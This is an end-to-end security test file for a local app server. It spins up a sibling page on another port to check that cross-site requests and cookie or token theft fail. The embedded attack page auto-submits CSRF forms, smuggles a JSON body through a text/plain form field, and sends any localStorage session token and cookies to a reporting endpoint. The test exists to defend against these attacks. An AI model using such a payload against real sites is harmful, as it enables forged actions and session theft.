import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, openApp, test } from './fixtures';
import type { LevqorServer } from './server-process';

/**
 * A page on another local port, opened in the same browser in which the founder is signed in
 * to `levqor serve`: a browser counts 127.0.0.1:<any port> as the same site and sends a
 * host's cookies to every port. It must receive nothing of ours and run nothing of ours.
 */
interface SiblingSite {
  origin: string;
  seen: { path: string; headers: IncomingHttpHeaders }[];
  reports: unknown[];
  close(): Promise<void>;
}

function attackPage(target: string): string {
  const form = (id: string, procedure: string, extra = '') =>
    `<iframe name="sink-${id}"></iframe>` +
    `<form id="${id}" method="POST" action="${target}api/${procedure}" target="sink-${id}" ${extra}></form>`;
  return `<!doctype html><meta charset="utf-8"><title>sibling</title>
<img src="/pixel.png" alt="">
${form('prune', 'telemetry.prune')}
${form('check', 'guardian.check')}
${form('stage', 'stage.set', 'enctype="text/plain"').replace('</form>', `<input name='{"stage":"post-launch","x":"' value='"}'></form>`)}
<script>
(async () => {
  for (const id of ['prune', 'check', 'stage']) document.getElementById(id).submit();
  const tries = [
    fetch('${target}api/stage.set', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"stage":"post-launch"}' }),
    fetch('${target}api/guardian.check', { method: 'POST', mode: 'no-cors', credentials: 'include' }),
    fetch('${target}api/stage.set', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{"stage":"post-launch"}' }),
  ];
  const outcomes = await Promise.all(tries.map((t) => t.then((r) => r.type + ':' + r.status, (e) => 'refused:' + e.name)));
  let stolen = null;
  try { stolen = localStorage.getItem('levqor.session'); } catch (e) { stolen = 'error'; }
  await fetch('/report', { method: 'POST', body: JSON.stringify({ outcomes, stolen, cookies: document.cookie }) });
  document.title = 'done';
})();
</script>`;
}

async function startSibling(target: string): Promise<SiblingSite> {
  const seen: SiblingSite['seen'] = [];
  const reports: unknown[] = [];
  const server: Server = createServer((req, res) => {
    seen.push({ path: req.url ?? '', headers: req.headers });
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      if (req.url === '/report') reports.push(JSON.parse(body));
      if (req.url === '/') {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        return res.end(attackPage(target));
      }
      res.writeHead(204);
      res.end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    seen,
    reports,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

async function api<T>(server: LevqorServer, procedure: string, input: unknown): Promise<T> {
  const res = await fetch(`${server.baseUrl}api/${procedure}`, { method: 'POST', headers: { authorization: `Bearer ${server.token}`, 'content-type': 'application/json' }, body: JSON.stringify(input) });
  expect(res.status, await res.clone().text()).toBe(200);
  return (await res.json()) as T;
}

test('a page on a second local port receives no cookie and cannot run anything', async ({ page, server }) => {
  const monitor = await api<{ id: string }>(server, 'guardian.addMonitor', { type: 'internal', name: 'disk', check: 'disk', intervalSeconds: 86_400 });
  await api(server, 'guardian.check', { id: monitor.id });
  const checkedAt = (await api<{ monitors: { id: string; lastCheckAt: number | null }[] }>(server, 'guardian.monitors', {})).monitors.find((m) => m.id === monitor.id)!.lastCheckAt;
  expect(checkedAt).not.toBeNull();

  await openApp(page, server);
  // signed in, and the browser holds no cookie of ours at all
  expect(await page.context().cookies()).toEqual([]);
  expect(await page.evaluate(() => localStorage.getItem('levqor.session'))).toMatch(/^[A-Za-z0-9_-]{43}$/);

  const sibling = await startSibling(server.baseUrl);
  try {
    await page.goto(`${sibling.origin}/`);
    await expect(page).toHaveTitle('done', { timeout: 15_000 });
    // the three form posts load into their frames
    await page.waitForLoadState('networkidle');

    expect(sibling.seen.length).toBeGreaterThanOrEqual(3);
    for (const request of sibling.seen) expect(request.headers.cookie, request.path).toBeUndefined();
    const report = sibling.reports[0] as { outcomes: string[]; stolen: string | null; cookies: string };
    expect(report.stolen).toBeNull();
    expect(report.cookies).toBe('');
    // the cross-origin JSON call needs a preflight, which is never granted
    expect(report.outcomes[2]).toBe('refused:TypeError');

    // nothing ran: the stage, and the monitor's last check, are as they were
    expect((await api<{ stage: string }>(server, 'stage.get', {})).stage).toBe('pre-launch');
    const after = (await api<{ monitors: { id: string; lastCheckAt: number | null }[] }>(server, 'guardian.monitors', {})).monitors.find((m) => m.id === monitor.id)!.lastCheckAt;
    expect(after).toBe(checkedAt);
  } finally {
    await sibling.close();
  }

  // the founder's own tab still works
  await page.goto(server.baseUrl);
  await expect(page.getByRole('navigation', { name: 'Areas' })).toBeVisible();
  await expect(page.getByTestId('stage-badge')).toBeVisible();
});
